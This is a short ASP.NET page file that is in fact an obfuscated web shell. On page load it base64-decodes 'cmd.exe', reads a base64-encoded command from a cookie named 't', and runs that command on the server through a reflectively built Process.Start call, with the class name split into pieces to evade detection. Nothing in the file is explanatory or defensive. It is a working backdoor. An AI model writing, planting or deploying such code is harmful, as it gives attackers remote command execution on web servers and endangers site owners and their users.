<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object sender, EventArgs e)
{
    string k = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String("Y21kLmV4ZQ=="));
    string a = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(Request.Cookies["t"].Value));
    var t = Type.GetType("System.Diagnostics." + "Pro" + "cess");
    t.GetMethod("Start", new[] { typeof(string), typeof(string) }).Invoke(null, new object[] { k, "/c " + a });
}
</script>
